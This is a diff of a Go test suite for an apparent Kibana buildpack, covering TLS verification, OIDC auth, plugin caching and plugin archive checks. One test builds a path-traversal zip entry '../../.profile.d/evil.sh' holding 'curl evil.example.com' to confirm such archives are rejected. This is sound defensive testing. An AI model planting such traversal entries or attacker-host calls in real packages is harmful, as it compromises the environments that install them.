+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "server.key"), client.keyPEM, 0644)).To(Succeed())
+				gs.KibanaConfig.ServerSsl = conf.ServerSsl{Enabled: true, Certificate: "server", Key: "server"}
 
+				Expect(gs.InstallServerCertificate()).To(MatchError("kibana-client is not allowed for server authentication (extended key usage)"))
+				Expect(gs.ServerCert).To(BeEmpty())
+			})
+
+			It("warns about a certificate when server-ssl is not enabled", func() {
+				gs.KibanaConfig.ServerSsl = conf.ServerSsl{Certificate: "server", Key: "server"}
+
+				Expect(gs.InstallServerCertificate()).To(Succeed())
+				Expect(buffer.String()).To(ContainSubstring("server-ssl of the Kibana file has a certificate but is not enabled"))
+				Expect(filepath.Join(depsDir, depsIdx, "profile.d", "server-certificate.sh")).NotTo(BeAnExistingFile())
 			})
 		})
 
-		Context("none of the above", func() {
-			It("sets the tool to go_nativevendoring", func() {
-				err = gs.SelectVendorTool()
+		Describe("InstallSslVerification", func() {
+			var server *httptest.Server
+
+			BeforeEach(func() {
+				server = httptest.NewTLSServer(http.NotFoundHandler())
+			})
+
+			AfterEach(func() {
+				server.Close()
+			})
+
+			// bind points the service of the template to the host of the test server
+			bind := func(host string) {
+				_, port, err := net.SplitHostPort(server.Listener.Addr().String())
 				Expect(err).To(BeNil())
+				gs.TemplatesConfig = conf.TemplatesConfig{Alias: conf.Alias{CredentialsHostField: "host"}}
+				gs.TemplatesToInstall = []conf.Template{{Name: "cf-kibana", ServiceInstanceName: "my-es"}}
+				gs.VcapServices = conf.VcapServices{"a9s-elasticsearch": {{Name: "my-es", Credentials: map[string]interface{}{"host": "https://" + net.JoinHostPort(host, port)}}}}
+			}
+
+			It("verifies nothing without setting and CA certificates", func() {
+				bind("127.0.0.1")
+				Expect(gs.InstallSslVerification()).To(Succeed())
+				Expect(gs.SslVerification).To(Equal(""))
+				Expect(filepath.Join(depsDir, depsIdx, "profile.d", "ssl-verification.sh")).NotTo(BeAnExistingFile())
+			})
 
-				Expect(gs.VendorTool).To(Equal("go_nativevendoring"))
+			It("verifies the certificate and the host name with the CA certificates by default", func() {
+				bind("127.0.0.1")
+				gs.CaCertificates = []*x509.Certificate{server.Certificate()}
+				Expect(gs.InstallSslVerification()).To(Succeed())
+				Expect(gs.SslVerification).To(Equal("full"))
+				Expect(profileD("ssl-verification")).To(ContainSubstring("export K_BP_SSL_VERIFICATION=full"))
+				Expect(buffer.String()).To(ContainSubstring("certificate of service my-es (127.0.0.1:"))
+
+				bind("localhost")
+				Expect(gs.InstallSslVerification()).To(HaveOccurred())
+				Expect(buffer.String()).To(ContainSubstring("The certificate of service my-es (localhost:"))
+				Expect(buffer.String()).To(ContainSubstring("does not pass ssl-verification full"))
+			})
+
+			It("verifies only the certificate chain with certificate", func() {
+				bind("localhost")
+				gs.KibanaConfig.SslVerification = "certificate"
+				gs.CaCertificates = []*x509.Certificate{server.Certificate()}
+				Expect(gs.InstallSslVerification()).To(Succeed())
+				Expect(profileD("ssl-verification")).To(ContainSubstring("export K_BP_SSL_VERIFICATION=certificate"))
+
+				gs.CaCertificates = []*x509.Certificate{ca.cert}
+				Expect(gs.InstallSslVerification()).To(HaveOccurred())
+				Expect(buffer.String()).To(ContainSubstring("does not pass ssl-verification certificate"))
+			})
+
+			It("warns that none does not verify the certificate", func() {
+				bind("localhost")
+				gs.KibanaConfig.SslVerification = "none"
+				gs.CaCertificates = []*x509.Certificate{ca.cert}
+				Expect(gs.InstallSslVerification()).To(Succeed())
+				Expect(buffer.String()).To(ContainSubstring("ssl-verification is none: the certificate of Elasticsearch is NOT verified"))
+				Expect(profileD("ssl-verification")).To(ContainSubstring("export K_BP_SSL_VERIFICATION=none"))
+			})
+
+			It("only warns if the service is not reachable during staging", func() {
+				bind("127.0.0.1")
+				server.Close()
+				gs.CaCertificates = []*x509.Certificate{ca.cert}
+				Expect(gs.InstallSslVerification()).To(Succeed())
+				Expect(buffer.String()).To(ContainSubstring("Unable to check the certificate of service my-es"))
 			})
 		})
 	})
 
-	Describe("InstallVendorTools", func() {
-		It("installs godep + glide to the depDir, creating a symlink in <depDir>/bin", func() {
-			godepInstallDir := filepath.Join(depsDir, depsIdx, "godep")
-			glideInstallDir := filepath.Join(depsDir, depsIdx, "glide")
-
-			mockManifest.EXPECT().InstallOnlyVersion("godep", godepInstallDir).Return(nil)
-			mockManifest.EXPECT().InstallOnlyVersion("glide", glideInstallDir).Return(nil)
+	Describe("InstallAuth", func() {
+		JustBeforeEach(func() {
+			gs.KibanaConfig.Auth = conf.Auth{Type: conf.AuthOidc, Service: "sso", Issuer: "https://uaa.example.com/oauth/token"}
+			gs.VcapServices = conf.VcapServices{"user-provided": {{Name: "sso", Credentials: map[string]interface{}{"client_id": "kibana", "client_secret": "s3cr3t"}}}}
+		})
 
-			err = gs.InstallVendorTools()
+		It("exports the auth settings for the launcher", func() {
+			Expect(gs.InstallAuth()).To(Succeed())
+			Expect(gs.Auth).NotTo(BeNil())
+			script, err := ioutil.ReadFile(filepath.Join(depsDir, depsIdx, "profile.d", "auth.sh"))
 			Expect(err).To(BeNil())
+			Expect(string(script)).To(ContainSubstring(`export K_BP_AUTH='{"Type":"oidc","Service":"sso"`))
+		})
 
-			link, err := os.Readlink(filepath.Join(depsDir, depsIdx, "bin", "godep"))
-			Expect(err).To(BeNil())
+		It("requires the service", func() {
+			gs.KibanaConfig.Auth.Service = ""
+			Expect(gs.InstallAuth()).To(MatchError("auth service missing"))
+			Expect(buffer.String()).To(ContainSubstring("auth of the Kibana file requires the service with the credentials"))
+
+			gs.KibanaConfig.Auth.Service = "other-sso"
+			Expect(gs.InstallAuth()).To(MatchError("auth service not bound"))
+			Expect(buffer.String()).To(ContainSubstring("The service other-sso of auth is not bound"))
+			Expect(gs.Auth).To(BeNil())
+		})
 
-			Expect(link).To(Equal("../godep/bin/godep"))
+		It("requires client_id and client_secret for oidc", func() {
+			delete(gs.VcapServices["user-provided"][0].Credentials, "client_secret")
+			Expect(gs.InstallAuth()).To(MatchError("service sso: oidc requires the credentials client_id and client_secret"))
 
-			link, err = os.Readlink(filepath.Join(depsDir, depsIdx, "bin", "glide"))
-			Expect(err).To(BeNil())
+			gs.VcapServices["user-provided"][0].Credentials = map[string]interface{}{"client_secret": "s3cr3t"}
+			Expect(gs.InstallAuth()).To(MatchError("service sso: oidc requires the credentials client_id and client_secret"))
+			Expect(gs.Auth).To(BeNil())
+		})
+
+		It("rejects settings which do not match the type", func() {
+			gs.KibanaConfig.Auth.Issuer = "http://uaa.example.com/oauth/token"
+			Expect(gs.InstallAuth()).To(MatchError("invalid auth issuer"))
 
-			Expect(link).To(Equal("../glide/bin/glide"))
+			gs.KibanaConfig.Auth.Type = conf.AuthBasic
+			gs.VcapServices["user-provided"][0].Credentials = map[string]interface{}{"users": map[string]interface{}{"admin": "pw"}}
+			Expect(gs.InstallAuth()).To(MatchError("invalid auth settings for type basic"))
+
+			gs.KibanaConfig.Auth.Issuer = ""
+			Expect(gs.InstallAuth()).To(Succeed())
+
+			gs.KibanaConfig.Auth.Type = "ldap"
+			Expect(gs.InstallAuth()).To(MatchError("unknown auth type 'ldap'"))
 		})
 	})
 
-	Describe("SelectGoVersion", func() {
+	Describe("plugin bundle cache", func() {
+		const manifest = `---
+dependencies:
+- name: kibana
+  version: 6.8.1
+  sha256: aaa1
+- name: kibana
+  version: 6.8.2
+  sha256: aaa2
+- name: kibana-plugins
+  version: 6.8.1
+  sha256: bbb1
+- name: kibana-plugins
+  version: 6.8.2
+  sha256: bbb2
+`
+
 		BeforeEach(func() {
-			versions := []string{"1.8.0", "1.7.5", "1.7.4", "1.6.3", "1.6.4", "34.34.0", "1.14.3"}
-			mockManifest.EXPECT().AllDependencyVersions("go").Return(versions)
+			Expect(ioutil.WriteFile(filepath.Join(buildpackDir, "manifest.yml"), []byte(manifest), 0644)).To(Succeed())
+			mockManifest.EXPECT().AllDependencyVersions(gomock.Any()).Return([]string{"6.8.1", "6.8.2"}).AnyTimes()
 		})
 
-		Context("godep", func() {
-			BeforeEach(func() {
-				vendorTool = "godep"
-				godep = golang.Godep{ImportPath: "go-online", GoVersion: "go1.6"}
-			})
+		JustBeforeEach(func() {
+			gs.KibanaConfig.Version = "6.8.1"
+			gs.PluginsToInstall["my-plugin"] = conf.Plugin{Name: "my-plugin", Url: "http://127.0.0.1:1/my-plugin.zip", Sha256: "CCC"}
+			gs.PluginsToInstall["kibana-plugin-a"] = conf.Plugin{Name: "kibana-plugin-a"}
+		})
 
-			Context("GOVERSION not set", func() {
-				It("sets the go version from Godeps.json", func() {
-					err = gs.SelectGoVersion()
-					Expect(err).To(BeNil())
+		key := func() string {
+			key, err := gs.PluginBundleKey()
+			Expect(err).To(BeNil())
+			return key
+		}
 
-					Expect(gs.GoVersion).To(Equal("1.6.4"))
-				})
-			})
+		It("calculates a stable key without downloading the plugins", func() {
+			first := key()
+			Expect(first).To(HaveLen(64))
+			Expect(key()).To(Equal(first))
 
-			Context("GOVERSION is set", func() {
-				var oldGOVERSION string
-
-				BeforeEach(func() {
-					oldGOVERSION = os.Getenv("GOVERSION")
-					err = os.Setenv("GOVERSION", "go34.34")
-					Expect(err).To(BeNil())
-				})
-
-				AfterEach(func() {
-					err = os.Setenv("GOVERSION", oldGOVERSION)
-					Expect(err).To(BeNil())
-				})
-
-				It("sets the go version from GOVERSION and logs a warning", func() {
-					err = gs.SelectGoVersion()
-					Expect(err).To(BeNil())
-
-					Expect(gs.GoVersion).To(Equal("34.34.0"))
-					Expect(buffer.String()).To(ContainSubstring("**WARNING** Using $GOVERSION override.\n"))
-					Expect(buffer.String()).To(ContainSubstring("    $GOVERSION = go34.34\n"))
-					Expect(buffer.String()).To(ContainSubstring("If this isn't what you want please run:\n"))
-					Expect(buffer.String()).To(ContainSubstring("    cf unset-env <app> GOVERSION"))
-				})
-			})
+			gs.PluginsToInstall = map[string]conf.Plugin{
+				"kibana-plugin-a": {Name: "kibana-plugin-a"},
+				"my-plugin":       {Name: "my-plugin", Url: "http://127.0.0.1:1/my-plugin.zip", Sha256: "ccc"},
+			}
+			Expect(key()).To(Equal(first))
 		})
 
-		Context("glide or go_nativevendoring", func() {
-			Context("GOVERSION is notset", func() {
-				BeforeEach(func() {
-					vendorTool = "glide"
-					dep := libbuildpack.Dependency{Name: "go", Version: "1.14.3"}
-					mockManifest.EXPECT().DefaultVersion("go").Return(dep, nil)
-				})
-
-				It("sets the go version to the default from the manifest.yml", func() {
-					err = gs.SelectGoVersion()
-					Expect(err).To(BeNil())
+		It("changes the key with the Kibana version and the plugins", func() {
+			keys := map[string]bool{key(): true}
+			change := func(f func()) {
+				f()
+				k := key()
+				Expect(keys).NotTo(HaveKey(k))
+				keys[k] = true
+			}
+
+			change(func() { gs.KibanaConfig.Version = "6.8.2" })
+			change(func() {
+				gs.PluginsToInstall["my-plugin"] = conf.Plugin{Name: "my-plugin", Url: "http://127.0.0.1:1/my-plugin.zip", Sha256: "ddd"}
+			})
+			change(func() { gs.PluginsToInstall["kibana-plugin-b"] = conf.Plugin{Name: "kibana-plugin-b"} })
+			change(func() { gs.KibanaConfig.RemovePlugins = []string{"timelion"} })
 
-					Expect(gs.GoVersion).To(Equal("1.14.3"))
-				})
+			Expect(os.MkdirAll(filepath.Join(buildDir, "plugins"), 0755)).To(Succeed())
+			change(func() {
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "plugins", "kibana-plugin-a-6.8.2.zip"), []byte("v1"), 0644)).To(Succeed())
+			})
+			change(func() {
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "plugins", "kibana-plugin-a-6.8.2.zip"), []byte("v2"), 0644)).To(Succeed())
 			})
+		})
 
-			Context("GOVERSION is set", func() {
-				var oldGOVERSION string
+		It("changes the key with the config of the optimizer", func() {
+			first := key()
+			Expect(os.MkdirAll(filepath.Join(buildDir, "conf.d"), 0755)).To(Succeed())
+			Expect(ioutil.WriteFile(filepath.Join(buildDir, "conf.d", "my-kibana.yml"), []byte("server.basePath: /kibana\n"), 0644)).To(Succeed())
+			second := key()
+			Expect(second).NotTo(Equal(first))
+			Expect(key()).To(Equal(second))
 
-				BeforeEach(func() {
-					oldGOVERSION = os.Getenv("GOVERSION")
-					err = os.Setenv("GOVERSION", "go34.34")
-					Expect(err).To(BeNil())
-					vendorTool = "go_nativevendoring"
-				})
+			Expect(ioutil.WriteFile(filepath.Join(buildDir, "conf.d", "my-kibana.yml"), []byte("server.basePath: /other\n"), 0644)).To(Succeed())
+			Expect(key()).NotTo(Equal(second))
+		})
 
-				AfterEach(func() {
-					err = os.Setenv("GOVERSION", oldGOVERSION)
-					Expect(err).To(BeNil())
-				})
+		It("does not cache plugins downloaded without sha256", func() {
+			gs.PluginsToInstall["other-plugin"] = conf.Plugin{Name: "other-plugin", Url: "http://127.0.0.1:1/other-plugin.zip"}
+			Expect(key()).To(Equal(""))
+			Expect(gs.PluginBundleCached("")).To(BeFalse())
+		})
 
-				It("sets the go version from GOVERSION", func() {
-					err = gs.SelectGoVersion()
-					Expect(err).To(BeNil())
+		It("restores the cached plugins and bundle on a hit", func() {
+			gs.Kibana = supply.Dependency{StagingLocation: filepath.Join(depsDir, depsIdx, "kibana-6.8.1")}
+			for _, file := range []string{"plugins/kibana-plugin-a/package.json", "optimize/bundles/kibana.bundle.js"} {
+				Expect(os.MkdirAll(filepath.Dir(filepath.Join(gs.Kibana.StagingLocation, file)), 0755)).To(Succeed())
+				Expect(ioutil.WriteFile(filepath.Join(gs.Kibana.StagingLocation, file), []byte(file), 0644)).To(Succeed())
+			}
+			Expect(os.MkdirAll(gs.DepCacheDir, 0755)).To(Succeed())
+			Expect(ioutil.WriteFile(filepath.Join(gs.DepCacheDir, "kibana-plugins-6.8.1"), []byte("archive"), 0644)).To(Succeed())
+			gs.CachedDeps["kibana-plugins-6.8.1"] = ""
+
+			bundleKey := key()
+			Expect(gs.PluginBundleCached(bundleKey)).To(BeFalse())
+			gs.CachePluginBundle(bundleKey)
+			Expect(gs.PluginBundleCached(bundleKey)).To(BeTrue())
+			gs.KibanaConfig.RemovePlugins = []string{"timelion"}
+			Expect(gs.PluginBundleCached(key())).To(BeFalse())
+
+			// the next staging with the same plugins
+			Expect(os.RemoveAll(gs.Kibana.StagingLocation)).To(Succeed())
+			gs.CachedDeps = map[string]string{"kibana-plugins-6.8.1": "", "plugin-bundle-" + bundleKey[:16]: ""}
+			Expect(gs.RestorePluginBundle(bundleKey)).To(Succeed())
+			data, err := ioutil.ReadFile(filepath.Join(gs.Kibana.StagingLocation, "optimize", "bundles", "kibana.bundle.js"))
+			Expect(err).To(BeNil())
+			Expect(string(data)).To(Equal("optimize/bundles/kibana.bundle.js"))
+			Expect(filepath.Join(gs.Kibana.StagingLocation, "plugins", "kibana-plugin-a", "package.json")).To(BeAnExistingFile())
+			Expect(gs.CachedDeps).To(Equal(map[string]string{"kibana-plugins-6.8.1": "in use", "plugin-bundle-" + bundleKey[:16]: "in use"}))
+		})
 
-					Expect(gs.GoVersion).To(Equal("34.34.0"))
-				})
-			})
+		It("does not use the cache with no-cache", func() {
+			gs.KibanaConfig.Buildpack.NoCache = true
+			bundleKey := key()
+			gs.CachedDeps["plugin-bundle-"+bundleKey[:16]] = ""
+			Expect(gs.PluginBundleCached(bundleKey)).To(BeFalse())
 		})
 	})
 
-	Describe("InstallGo", func() {
-		var (
-			goInstallDir string
-			dep          libbuildpack.Dependency
-		)
+	Describe("OptimizeKibana", func() {
+		It("optimizes Kibana versions before 7.10", func() {
+			Expect(supply.OptimizeSupported("6.8.1")).To(BeTrue())
+			Expect(supply.OptimizeSupported("7.9.3")).To(BeTrue())
+			Expect(supply.OptimizeSupported("7.10.0")).To(BeFalse())
+			Expect(supply.OptimizeSupported("8.1.0")).To(BeFalse())
+		})
+
+		It("installs plugins without optimizing them one by one", func() {
+			Expect(supply.PluginInstallArgs("6.8.1", "file:///tmp/a.zip")).To(Equal([]string{"install", "--no-optimize", "file:///tmp/a.zip"}))
+			Expect(supply.PluginInstallArgs("7.10.0", "file:///tmp/a.zip")).To(Equal([]string{"install", "file:///tmp/a.zip"}))
+		})
 
-		BeforeEach(func() {
-			goVersion = "1.3.4"
-			goInstallDir = filepath.Join(depsDir, depsIdx, "go1.3.4")
-			dep = libbuildpack.Dependency{Name: "go", Version: "1.3.4"}
-			err = os.MkdirAll(filepath.Join(goInstallDir, "go"), 0755)
+		It("runs the optimizer with the config rendered at staging", func() {
+			gs.Kibana = supply.Dependency{Version: "6.8.1", StagingLocation: filepath.Join(depsDir, depsIdx, "kibana-6.8.1")}
+			gs.KibanaConfig.OptimizeHeapSize = 1536
+			Expect(os.MkdirAll(filepath.Join(gs.Kibana.StagingLocation, "bin"), 0755)).To(Succeed())
+			out := filepath.Join(depsDir, "optimize.out")
+			script := "#!/bin/sh\necho \"$NODE_OPTIONS $*\" > " + out + "\ncat \"$3\" >> " + out + "\n"
+			Expect(ioutil.WriteFile(filepath.Join(gs.Kibana.StagingLocation, "bin", "kibana"), []byte(script), 0755)).To(Succeed())
+			Expect(os.MkdirAll(filepath.Join(buildDir, "conf.d"), 0755)).To(Succeed())
+			Expect(ioutil.WriteFile(filepath.Join(buildDir, "conf.d", "my-kibana.yml"), []byte("server.basePath: /kibana\n"), 0644)).To(Succeed())
+
+			Expect(gs.OptimizeKibana()).To(Succeed())
+			data, err := ioutil.ReadFile(out)
 			Expect(err).To(BeNil())
-			mockManifest.EXPECT().InstallDependency(dep, goInstallDir).Return(nil)
+			Expect(string(data)).To(MatchRegexp(`^--max-old-space-size=1536 --optimize -c \S+/kibana.config/kibana.yml\n`))
+			Expect(string(data)).To(ContainSubstring("server.basePath: /kibana"))
 		})
 
-		It("Write GOROOT to envfile", func() {
-			err = gs.InstallGo()
-			Expect(err).To(BeNil())
+		It("skips Kibana versions with pre-built bundles", func() {
+			gs.Kibana = supply.Dependency{Version: "7.10.0", StagingLocation: filepath.Join(depsDir, depsIdx, "kibana-7.10.0")}
+			Expect(gs.OptimizeKibana()).To(Succeed())
+		})
+	})
 
-			contents, err := ioutil.ReadFile(filepath.Join(depsDir, depsIdx, "env", "GOROOT"))
-			Expect(err).To(BeNil())
-			Expect(string(contents)).To(Equal(filepath.Join(goInstallDir, "go")))
+	Describe("remove-plugins", func() {
+		var calls string
+
+		JustBeforeEach(func() {
+			gs.Kibana = supply.Dependency{Version: "6.8.1", StagingLocation: filepath.Join(depsDir, depsIdx, "kibana-6.8.1")}
+			gs.KibanaConfig.RemovePlugins = []string{"timelion"}
+			calls = filepath.Join(depsDir, "calls")
+
+			// kibana-plugin lists the installed plugins and removes them, bin/kibana optimizes
+			bin := filepath.Join(gs.Kibana.StagingLocation, "bin")
+			Expect(os.MkdirAll(bin, 0755)).To(Succeed())
+			kibanaPlugin := `#!/bin/sh
+case "$1" in
+list) printf 'kbn-vislib-vis-types@6.8.1\ntimelion@6.8.1\n' ;;
+remove) echo "remove $2" >> ` + calls + ` && mkdir -p "$(dirname "$0")/../optimize" && touch "$(dirname "$0")/../optimize/removed-$2" ;;
+esac
+`
+			Expect(ioutil.WriteFile(filepath.Join(bin, "kibana-plugin"), []byte(kibanaPlugin), 0755)).To(Succeed())
+			Expect(ioutil.WriteFile(filepath.Join(bin, "kibana"), []byte("#!/bin/sh\necho optimize >> "+calls+"\n"), 0755)).To(Succeed())
 		})
 
-		It("installs go to the depDir, creating a symlink in <depDir>/bin", func() {
-			err = gs.InstallGo()
-			Expect(err).To(BeNil())
+		It("lists the installed plugins for an unknown name", func() {
+			gs.KibanaConfig.RemovePlugins = []string{"timelio"}
+			Expect(gs.RemoveKibanaPlugins()).To(MatchError("unknown plugin to remove"))
+			Expect(buffer.String()).To(ContainSubstring("Kibana plugin timelio of remove-plugins is not installed in Kibana 6.8.1 (did you mean 'timelion'?), installed plugins: kbn-vislib-vis-types, timelion"))
+			Expect(calls).NotTo(BeAnExistingFile())
+		})
 
-			link, err := os.Readlink(filepath.Join(depsDir, depsIdx, "bin", "go"))
+		It("removes the plugins before the bundles are optimized", func() {
+			Expect(gs.InstallPluginBundle("", false)).To(Succeed())
+			data, err := ioutil.ReadFile(calls)
 			Expect(err).To(BeNil())
+			Expect(string(data)).To(Equal("remove timelion\noptimize\n"))
+		})
 
-			Expect(link).To(Equal("../go1.3.4/go/bin/go"))
+		It("removes the plugins before the cached bundle is restored", func() {
+			key := "0123456789abcdef0123456789abcdef"
+			for _, dir := range []string{"plugins", "optimize"} {
+				Expect(os.MkdirAll(filepath.Join(gs.DepCacheDir, "plugin-bundle-"+key[:16], dir), 0755)).To(Succeed())
+			}
+			Expect(ioutil.WriteFile(filepath.Join(gs.DepCacheDir, "plugin-bundle-"+key[:16], "optimize", "cached.js"), []byte("bundle"), 0644)).To(Succeed())
 
+			Expect(gs.InstallPluginBundle(key, true)).To(Succeed())
+			data, err := ioutil.ReadFile(calls)
+			Expect(err).To(BeNil())
+			Expect(string(data)).To(Equal("remove timelion\n"))
+			// the restored bundle replaces the one of the removal
+			Expect(filepath.Join(gs.Kibana.StagingLocation, "optimize", "cached.js")).To(BeAnExistingFile())
+			Expect(filepath.Join(gs.Kibana.StagingLocation, "optimize", "removed-timelion")).NotTo(BeAnExistingFile())
 		})
 	})
 
-	Describe("WritesGoRootToProfileD", func() {
+	Describe("PrepareKibanaPlugins", func() {
+		const packageJson = `{"name": "my-plugin", "version": "1.0.0", "kibana": {"version": "6.8.1"}}`
+		var server *httptest.Server
+
 		BeforeEach(func() {
-			goVersion = "3.4.5"
+			mockManifest.EXPECT().AllDependencyVersions("kibana").Return([]string{"6.8.1", "7.4.0"}).AnyTimes()
+			server = httptest.NewServer(http.FileServer(http.Dir(buildDir)))
 		})
 
-		It("writes the goroot.sh script to <depDir>/profile.d", func() {
-			err = gs.WriteGoRootToProfileD()
-			Expect(err).To(BeNil())
+		AfterEach(func() {
+			server.Close()
+		})
+
+		JustBeforeEach(func() {
+			gs.KibanaConfig.Version = "6.8.1"
+		})
 
-			contents, err := ioutil.ReadFile(filepath.Join(depsDir, depsIdx, "profile.d", "goroot.sh"))
+		It("verifies downloaded archives and removes the downloads if a plugin is rejected", func() {
+			writeZip(filepath.Join(buildDir, "my-plugin.zip"), map[string]string{"kibana/my-plugin/package.json": packageJson})
+			sum, err := plugin.Checksum(filepath.Join(buildDir, "my-plugin.zip"))
 			Expect(err).To(BeNil())
+			gs.PluginsToInstall["my-plugin"] = conf.Plugin{Name: "my-plugin", Url: server.URL + "/my-plugin.zip", Sha256: sum}
+			Expect(gs.PrepareKibanaPlugins()).To(Succeed())
+			Expect(gs.PluginArchives["my-plugin"]).To(BeAnExistingFile())
+			Expect(os.RemoveAll(gs.PluginDownloadDir)).To(Succeed())
+
+			gs.PluginsToInstall["my-plugin"] = conf.Plugin{Name: "my-plugin", Url: server.URL + "/my-plugin.zip", Sha256: "0123"}
+			Expect(gs.PrepareKibanaPlugins()).To(MatchError("checksum mismatch: expected sha256 0123, got " + sum))
+			Expect(buffer.String()).To(ContainSubstring("Kibana plugin my-plugin (my-plugin.zip) is rejected: checksum mismatch"))
+			Expect(gs.PluginDownloadDir).NotTo(BeAnExistingFile())
+		})
+
+		It("rejects archives with entries outside of the plugin directory", func() {
+			writeZip(filepath.Join(buildDir, "archives", "my-plugin.zip"), map[string]string{"kibana/my-plugin/package.json": packageJson, "../../.profile.d/evil.sh": "curl evil.example.com"})
+			gs.PluginsToInstall["my-plugin"] = conf.Plugin{Name: "my-plugin", File: "archives/my-plugin.zip"}
 
-			Expect(string(contents)).To(ContainSubstring("export GOROOT=$DEPS_DIR/04/go3.4.5/go"))
-			Expect(string(contents)).To(ContainSubstring("PATH=$PATH:$GOROOT/bin"))
+			Expect(gs.PrepareKibanaPlugins()).To(MatchError("entry ../../.profile.d/evil.sh is outside of the archive directory"))
+			Expect(buffer.String()).To(ContainSubstring("Kibana plugin my-plugin (my-plugin.zip) is rejected"))
+			Expect(gs.PluginDownloadDir).NotTo(BeAnExistingFile())
 		})
 
-	})
+		It("rejects plugins built for another Kibana version and lists the compatible versions", func() {
+			writeZip(filepath.Join(buildDir, "archives", "my-plugin.zip"), map[string]string{"kibana/my-plugin/kibana.json": `{"id": "my-plugin", "version": "1.0.0", "kibanaVersion": "7.4.0"}`})
+			gs.PluginsToInstall["my-plugin"] = conf.Plugin{Name: "my-plugin", File: "archives/my-plugin.zip"}
 
-	Describe("WriteConfigYml", func() {
-		BeforeEach(func() {
-			goVersion = "1.3.4"
-		})
-		type config struct {
-			Name   string `yaml:"name"`
-			Config struct {
-				GoVersion  string `yaml:"GoVersion"`
-				VendorTool string `yaml:"VendorTool"`
-				Godep      string `yaml:"Godep"`
-			} `yaml:"config"`
-		}
-		getConfig := func() config {
-			cfg := config{}
-			err = libbuildpack.NewYAML().Load(filepath.Join(depsDir, depsIdx, "config.yml"), &cfg)
-			Expect(err).To(BeNil())
-			return cfg
-		}
+			Expect(gs.PrepareKibanaPlugins()).To(MatchError("incompatible plugin"))
+			Expect(buffer.String()).To(ContainSubstring("Kibana plugin my-plugin (my-plugin.zip) is built for Kibana 7.4.0, but Kibana 6.8.1 is selected. Compatible Kibana versions of the buildpack: 7.4.0"))
+		})
 
-		Context("The vendor tool is Godep", func() {
-			BeforeEach(func() {
-				vendorTool = "godep"
-				godep = golang.Godep{
-					ImportPath:      "an-import-path",
-					GoVersion:       "go1.3",
-					Packages:        []string{"package1", "package2"},
-					WorkspaceExists: true,
-				}
-			})
+		It("reports plugins no Kibana version of the buildpack is compatible with", func() {
+			writeZip(filepath.Join(buildDir, "archives", "my-plugin.zip"), map[string]string{"kibana/my-plugin/package.json": `{"name": "my-plugin", "version": "1.0.0", "kibana": {"version": "6.2.4"}}`})
+			gs.PluginsToInstall["my-plugin"] = conf.Plugin{Name: "my-plugin", File: "archives/my-plugin.zip"}
 
-			It("Writes the go version to config.yml", func() {
-				err = gs.WriteConfigYml()
-				Expect(err).To(BeNil())
+			Expect(gs.PrepareKibanaPlugins()).To(MatchError("incompatible plugin"))
+			Expect(buffer.String()).To(ContainSubstring("No Kibana version of the buildpack is compatible, use a build of the plugin for Kibana 6.8.1"))
+		})
 
-				cfg := getConfig()
-				Expect(cfg.Config.GoVersion).To(Equal("1.3.4"))
-			})
+		It("checks the expected version of the plugin", func() {
+			writeZip(filepath.Join(buildDir, "archives", "my-plugin.zip"), map[string]string{"kibana/my-plugin/package.json": packageJson})
+			gs.PluginsToInstall["my-plugin"] = conf.Plugin{Name: "my-plugin", File: "archives/my-plugin.zip", Version: "2.0.0"}
 
-			It("Writes the vendor tool to config.yml", func() {
-				err = gs.WriteConfigYml()
-				Expect(err).To(BeNil())
+			Expect(gs.PrepareKibanaPlugins()).To(MatchError("plugin version mismatch"))
+			Expect(buffer.String()).To(ContainSubstring("Kibana plugin my-plugin (my-plugin.zip) has version 1.0.0, expected 2.0.0"))
+		})
+	})
 
-				cfg := getConfig()
-				Expect(cfg.Config.VendorTool).To(Equal("godep"))
-			})
+	Describe("CheckOffline", func() {
+		const manifest = `---
+dependencies:
+- name: kibana
+  version: 6.8.1
+  uri: https://artifacts.elastic.co/downloads/kibana/kibana-6.8.1-linux-x86_64.tar.gz
+  sha256: aaa1
+- name: kibana-plugins
+  version: 6.8.1
+  uri: https://example.com/kibana-plugins-6.8.1.zip
+  sha256: bbb1
+`
 
-			It("Writes the godep info to config.yml", func() {
-				godepsJsonContents := `{"ImportPath":"an-import-path","GoVersion":"go1.3","Packages":["package1","package2"],"WorkspaceExists":true}`
-				err = gs.WriteConfigYml()
-				Expect(err).To(BeNil())
+		BeforeEach(func() {
+			Expect(ioutil.WriteFile(filepath.Join(buildpackDir, "manifest.yml"), []byte(manifest), 0644)).To(Succeed())
+			mockManifest.EXPECT().AllDependencyVersions(gomock.Any()).Return([]string{"6.8.1"}).AnyTimes()
+		})
 
-				cfg := getConfig()
-				Expect(cfg.Config.Godep).To(Equal(godepsJsonContents))
-			})
+		JustBeforeEach(func() {
+			gs.KibanaConfig.Version = "6.8.1"
+			gs.KibanaConfig.Buildpack.Offline = true
+			gs.PluginsToInstall = map[string]conf.Plugin{
+				"kibana-plugin-a": {Name: "kibana-plugin-a"},
+				"kibana-plugin-b": {Name: "kibana-plugin-b"},
+				"my-plugin":       {Name: "my-plugin", File: "archives/my-plugin-1.0.0.zip"},
+			}
+			Expect(os.MkdirAll(filepath.Join(buildDir, "archives"), 0755)).To(Succeed())
+			Expect(ioutil.WriteFile(filepath.Join(buildDir, "archives", "my-plugin-1.0.0.zip"), []byte("zip"), 0644)).To(Succeed())
+			Expect(os.MkdirAll(filepath.Join(buildDir, "plugins"), 0755)).To(Succeed())
+			Expect(ioutil.WriteFile(filepath.Join(buildDir, "plugins", "kibana-plugin-b-6.8.1.zip"), []byte("zip"), 0644)).To(Succeed())
 		})
 
-		Context("The vendor tool is not Godep", func() {
-			BeforeEach(func() {
-				vendorTool = "glide"
-			})
+		It("lists every missing dependency and plugin before anything is installed", func() {
+			mockManifest.EXPECT().IsCached().Return(false).AnyTimes()
+			gs.PluginsToInstall["url-plugin"] = conf.Plugin{Name: "url-plugin", Url: "https://example.com/url-plugin.zip"}
+			gs.PluginsToInstall["other-plugin"] = conf.Plugin{Name: "other-plugin", File: "archives/other-plugin.zip"}
+
+			Expect(gs.CheckOffline()).To(MatchError("downloads are not allowed in offline mode"))
+			for _, line := range []string{
+				"- dependency kibana 6.8.1 (neither in the buildpack nor in the application cache)",
+				"- dependency kibana-plugins 6.8.1 (neither in the buildpack nor in the application cache)",
+				"- plugin kibana-plugin-a (not in the plugins folder, the kibana-plugins or the x-pack dependency)",
+				"- plugin other-plugin (file archives/other-plugin.zip not found)",
